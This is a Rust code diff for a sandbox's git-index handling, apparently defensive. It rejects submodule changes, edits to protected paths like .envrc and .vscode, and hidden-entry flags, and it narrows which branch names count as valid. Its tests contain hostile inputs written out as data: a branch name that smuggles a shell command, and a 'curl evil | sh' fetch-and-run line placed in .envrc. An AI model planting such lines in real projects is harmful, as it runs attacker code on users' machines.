@@ -9,7 +9,7 @@
 //! repository the command made below the workspace would run its
 //! `core.fsmonitor` on the host.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 
 use anyhow::{bail, ensure, Context, Result};
 
@@ -30,10 +30,12 @@ pub fn is_branch_head(head: &[u8]) -> bool {
 }
 
 /// git's check-ref-format rules, for the part after `refs/heads/`.
+/// Narrower than git's: letters, digits and `._/-` only, since shell
+/// prompts print the branch name, and not all of them quote it.
 fn is_valid_branch(name: &str) -> bool {
-    let forbidden = |c: char| c.is_ascii_control() || " ~^:?*[\\".contains(c);
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._/-".contains(c);
     !name.is_empty()
-        && !name.contains(forbidden)
+        && name.chars().all(plain)
         && !name.contains("..")
         && !name.contains("@{")
         && !name.ends_with('.')
@@ -87,6 +89,22 @@ pub struct Index<'a> {
     format: ObjectFormat,
     /// The paths of the gitlink (submodule) entries.
     pub gitlinks: BTreeSet<Vec<u8>>,
+    /// Every entry by path: what git would check out there, and the bits
+    /// that hide it from `git status`.
+    entries: BTreeMap<Vec<u8>, Entry>,
+}
+
+/// What an entry says, beyond its path and file system stat data.
+#[derive(Debug, Clone, PartialEq)]
+struct Entry {
+    mode: u32,
+    oid: Vec<u8>,
+    /// The merge stage (0 outside a conflict).
+    stage: u16,
+    /// `assume-unchanged`: git stops comparing the file with the work tree.
+    assume_valid: bool,
+    /// `skip-worktree`: git neither compares nor checks the file out.
+    skip_worktree: bool,
 }
 
 impl<'a> Index<'a> {
@@ -103,31 +121,91 @@ impl<'a> Index<'a> {
 }
 
 /// What of the command's index `after` may come back over the host's
-/// `before`: its entries alone (see `Index::entries_only`), refused when it
-/// adds a gitlink or has a path git must not write.
+/// `before`: its entries alone (see `Index::entries_only`). Refused when it
+/// has a path git must not write, or when, compared with the host's:
+/// - its submodules differ, either way: an added one would make the host's
+///   `git status` run a repository the command made; a removed one would
+///   leave the host's unprotected by the next run, until the user's own
+///   `git reset` brings it back with the command's `.git` in place;
+/// - any entry under a `protected` name differs: the user's next
+///   `git checkout -- .` or `git stash pop` would write it out;
+/// - an entry gained `assume-unchanged` or `skip-worktree`, which hide it
+///   from `git status`.
 pub fn index_to_hand_back(
     before: Option<&[u8]>,
     after: &[u8],
     format: ObjectFormat,
+    protected: &[String],
 ) -> Result<Vec<u8>> {
-    let old = match before {
-        Some(index) => parse(index, format).context("the host's index")?.gitlinks,
-        None => BTreeSet::new(),
+    let host = match before {
+        Some(index) => parse(index, format).context("the host's index")?.entries,
+        None => BTreeMap::new(),
     };
     let index = parse(after, format)?;
-    let added: Vec<_> = index
-        .gitlinks
-        .difference(&old)
-        .map(|p| String::from_utf8_lossy(p).into_owned())
-        .collect();
+    let show = |paths: Vec<&Vec<u8>>| {
+        let shown: Vec<_> = paths
+            .iter()
+            .take(5)
+            .map(|p| String::from_utf8_lossy(p).into_owned())
+            .collect();
+        shown.join(", ")
+    };
+    let links = |entries: &BTreeMap<Vec<u8>, Entry>| -> BTreeSet<Vec<u8>> {
+        entries
+            .iter()
+            .filter(|(_, e)| e.mode & 0o170000 == GITLINK)
+            .map(|(p, _)| p.clone())
+            .collect()
+    };
+    let (old, new) = (links(&host), &index.gitlinks);
+    let added: Vec<_> = new.difference(&old).collect();
     if !added.is_empty() {
         bail!(
             "it adds submodules ({}), whose repositories the host's git would run",
-            added.join(", ")
+            show(added)
         );
+    }
+    let removed: Vec<_> = old.difference(new).collect();
+    if !removed.is_empty() {
+        bail!(
+            "it drops submodules ({}), which sandbox protects only while your index has them",
+            show(removed)
+        );
+    }
+    let is_protected = |path: &[u8]| {
+        let first = path.split(|&b| b == b'/').next().unwrap_or_default();
+        protected
+            .iter()
+            .any(|p| p.trim_end_matches('/').as_bytes() == first)
+    };
+    let paths: BTreeSet<&Vec<u8>> = host.keys().chain(index.entries.keys()).collect();
+    let changed: Vec<_> = paths
+        .into_iter()
+        .filter(|p| is_protected(p) && host.get(*p) != index.entries.get(*p))
+        .collect();
+    if !changed.is_empty() {
+        bail!(
+            "it changes protected paths ({}), which your git would write out",
+            show(changed)
+        );
+    }
+    let hidden: Vec<_> = index
+        .entries
+        .iter()
+        .filter(|(path, e)| {
+            let had = host.get(*path);
+            (e.assume_valid && !had.is_some_and(|h| h.assume_valid))
+                || (e.skip_worktree && !had.is_some_and(|h| h.skip_worktree))
+        })
+        .map(|(path, _)| path)
+        .collect();
+    if !hidden.is_empty() {
+        bail!("it hides entries from `git status` ({})", show(hidden));
     }
     Ok(index.entries_only())
 }
+
+const GITLINK: u32 = 0o160000;
 
 /// Reads `index`, versions 2 to 4, as git does: each entry's name as long as
 /// its flags say (git's rule, not the first NUL), its padding all NULs; the
@@ -136,7 +214,6 @@ pub fn index_to_hand_back(
 pub fn parse(index: &[u8], format: ObjectFormat) -> Result<Index<'_>> {
     // ctime, mtime (seconds and nanoseconds), dev, ino, mode, uid, gid, size.
     const STAT: usize = 40;
-    const GITLINK: u32 = 0o160000;
     const NAME_MASK: u16 = 0x0fff;
     let mut r = Reader { data: index, at: 0 };
     ensure!(r.take(4)? == b"DIRC", "not a git index");
@@ -144,16 +221,18 @@ pub fn parse(index: &[u8], format: ObjectFormat) -> Result<Index<'_>> {
     ensure!((2..=4).contains(&version), "index version {version}");
     let count = r.u32()?;
     let mut gitlinks = BTreeSet::new();
+    let mut entries = BTreeMap::new();
     let mut previous: Vec<u8> = Vec::new();
     for _ in 0..count {
         let start = r.at;
         let stat = r.take(STAT)?;
         let mode = u32::from_be_bytes(stat[24..28].try_into().expect("four bytes"));
-        r.take(format.len())?;
+        let oid = r.take(format.len())?.to_vec();
         let flags = r.u16()?;
+        let mut extended = 0;
         if flags & 0x4000 != 0 {
             ensure!(version >= 3, "extended flags in a version 2 index");
-            r.take(2)?;
+            extended = r.u16()?;
         }
         let named = usize::from(flags & NAME_MASK);
         let name = if version == 4 {
@@ -200,6 +279,15 @@ pub fn parse(index: &[u8], format: ObjectFormat) -> Result<Index<'_>> {
         if mode & 0o170000 == GITLINK {
             gitlinks.insert(name.clone());
         }
+        let entry = Entry {
+            mode,
+            oid,
+            stage: (flags >> 12) & 0x3,
+            assume_valid: flags & 0x8000 != 0,
+            skip_worktree: extended & 0x4000 != 0,
+        };
+        // Stages of one path in a conflict: the first stands for them all.
+        entries.entry(name.clone()).or_insert(entry);
         previous = name;
     }
     let entries_end = r.at;
@@ -222,6 +310,7 @@ pub fn parse(index: &[u8], format: ObjectFormat) -> Result<Index<'_>> {
         entries_end,
         format,
         gitlinks,
+        entries,
     })
 }
 
@@ -315,6 +404,8 @@ mod tests {
 
     #[test]
     fn head_names_a_branch() {
+        assert!(!is_branch_head(b"ref: refs/heads/$(touch${IFS}x)\n"));
+        assert!(!is_branch_head(b"ref: refs/heads/a;b\n"));
         assert!(is_branch_head(b"ref: refs/heads/main\n"));
         assert!(is_branch_head(b"ref: refs/heads/feature/x-1\n"));
         for bad in [
@@ -375,10 +466,10 @@ mod tests {
                 BTreeSet::from([b"deep/sub".to_vec()]),
                 "version {version}"
             );
-            let err = index_to_hand_back(Some(&before), &after, SHA1).unwrap_err();
+            let err = index_to_hand_back(Some(&before), &after, SHA1, &[]).unwrap_err();
             assert!(err.to_string().contains("deep/sub"), "{err}");
             // What comes back is what git reads: the same entries.
-            let back = index_to_hand_back(Some(&after), &after, SHA1).unwrap();
+            let back = index_to_hand_back(Some(&after), &after, SHA1, &[]).unwrap();
             std::fs::write(dir.path().join(".git/index"), &back).unwrap();
             let listed = Command::new("git")
                 .args(["ls-files", "--stage"])
@@ -393,6 +484,81 @@ mod tests {
     }
 
     const SHA1: ObjectFormat = ObjectFormat::Sha1;
+
+    /// A repository with a few files, and a way to run git in it.
+    fn repository() -> (tempfile::TempDir, impl Fn(&[&str])) {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().to_path_buf();
+        let git = move |args: &[&str]| {
+            let out = Command::new("git")
+                .args(args)
+                .current_dir(&path)
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .env("HOME", &path)
+                .output()
+                .expect("git runs");
+            assert!(out.status.success(), "git {args:?}: {out:?}");
+        };
+        git(&["init", "-q"]);
+        for name in ["a", ".envrc", ".vscode/tasks.json"] {
+            let file = dir.path().join(name);
+            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+            std::fs::write(file, name).unwrap();
+        }
+        git(&["add", "a", ".envrc"]);
+        git(&[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            "160000,0123456789abcdef0123456789abcdef01234567,sub",
+        ]);
+        (dir, git)
+    }
+
+    fn index(dir: &tempfile::TempDir) -> Vec<u8> {
+        std::fs::read(dir.path().join(".git/index")).unwrap()
+    }
+
+    #[test]
+    fn what_the_host_protects_does_not_change_through_the_index() {
+        let protected = [".envrc".to_string(), ".vscode".to_string()];
+        let back = |before: &[u8], after: &[u8]| {
+            index_to_hand_back(Some(before), after, SHA1, &protected).map_err(|e| e.to_string())
+        };
+        let (dir, git) = repository();
+        let host = index(&dir);
+
+        git(&["rm", "-q", "--cached", "sub"]);
+        let err = back(&host, &index(&dir)).unwrap_err();
+        assert!(err.contains("drops submodules (sub)"), "{err}");
+        std::fs::write(dir.path().join(".git/index"), &host).unwrap();
+
+        git(&["add", ".vscode/tasks.json"]);
+        let err = back(&host, &index(&dir)).unwrap_err();
+        assert!(
+            err.contains("protected paths (.vscode/tasks.json)"),
+            "{err}"
+        );
+        std::fs::write(dir.path().join(".git/index"), &host).unwrap();
+
+        std::fs::write(dir.path().join(".envrc"), "curl evil | sh").unwrap();
+        git(&["add", ".envrc"]);
+        assert!(back(&host, &index(&dir)).unwrap_err().contains(".envrc"));
+        std::fs::write(dir.path().join(".git/index"), &host).unwrap();
+
+        git(&["update-index", "--skip-worktree", "a"]);
+        let err = back(&host, &index(&dir)).unwrap_err();
+        assert!(err.contains("hides entries") && err.contains('a'), "{err}");
+        std::fs::write(dir.path().join(".git/index"), &host).unwrap();
+        git(&["update-index", "--assume-unchanged", "a"]);
+        assert!(back(&host, &index(&dir)).unwrap_err().contains("hides"));
+
+        // The host's own bits, and changes elsewhere, pass.
+        let hidden = index(&dir);
+        std::fs::write(dir.path().join("b"), "b").unwrap();
+        git(&["add", "b"]);
+        assert!(back(&hidden, &index(&dir)).is_ok());
+    }
 
     /// An index whose first entry's flags say one name length and whose
     /// bytes hold another: git follows the flags, and so must sandbox, or a
